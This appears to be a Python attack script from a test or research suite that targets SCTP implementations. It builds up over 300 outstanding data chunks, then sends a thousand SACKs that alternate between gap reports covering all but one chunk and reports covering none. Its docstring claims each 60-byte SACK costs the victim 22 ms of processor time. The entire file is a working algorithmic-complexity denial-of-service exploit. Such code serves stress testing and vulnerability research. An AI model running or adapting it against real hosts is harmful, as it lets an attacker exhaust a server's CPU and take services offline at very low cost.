"""Hundreds of chunks outstanding, and SACKs that report all but one of them and then none, in turn. Each of
them changed every chunk: 22 ms of the victim's processor for 60 bytes."""
from attack import LIB, RUN, main
from sctp import ABORT, DATA, Peer, chunk, chunks_of, data, sack

CHUNKS, FLIPS = 1_500, 1_000


def echoes(peer, highest, acknowledge):
    """The highest TSN that has come, after what comes now; each packet is acknowledged, or none."""
    while (datagram := peer.receive(0.01)) is not None:
        for kind, _, body in chunks_of(datagram):
            assert kind != ABORT, "the victim has let go of who acknowledges nothing"
            if kind == DATA:
                tsn = int.from_bytes(body[:4], "big") - peer.their_tsn & 0xFFFFFFFF
                highest = max(highest, tsn)
        if acknowledge:
            peer.send(sack(peer.their_tsn + highest, 1 << 24))
    return highest


def some(peer, count):
    """Small messages, each of which has an echo."""
    for _ in range(count // 50):
        at = peer.tsn - peer.first
        peer.send(*[data(peer.tsn + n, b"x", ssn=at + n & 0xFFFF) for n in range(50)])
        peer.tsn += 50


def play(victim):
    peer = Peer(window=1 << 24).connect()
    highest = -1
    # A window that is large enough.
    for _ in range(30):
        some(peer, 1000)
        highest = echoes(peer, highest, True)
    acknowledged = highest
    # No more than there is room for: a server lets go of who reads none of its answers.
    for _ in range(CHUNKS // 250):
        some(peer, 250)
        # The same again: it may send what its window allows.
        peer.send(sack(peer.their_tsn + acknowledged, 1 << 24))
        highest = echoes(peer, highest, False)
    most = highest - acknowledged
    before = peer.their_tsn + acknowledged
    for n in range(FLIPS):
        gaps = [(2, most)] if n % 2 and most >= 2 else []
        peer.send(sack(before, 1 << 24, gaps))
        if n % 16 == 0:
            peer.drain()
    print(f"    {most} chunks outstanding")
    assert most > 300, "the victim did not send enough"
    peer.send(chunk(6))
    return FLIPS


main(play, victims=[RUN, LIB], memory=32, most=48, cpu=4)
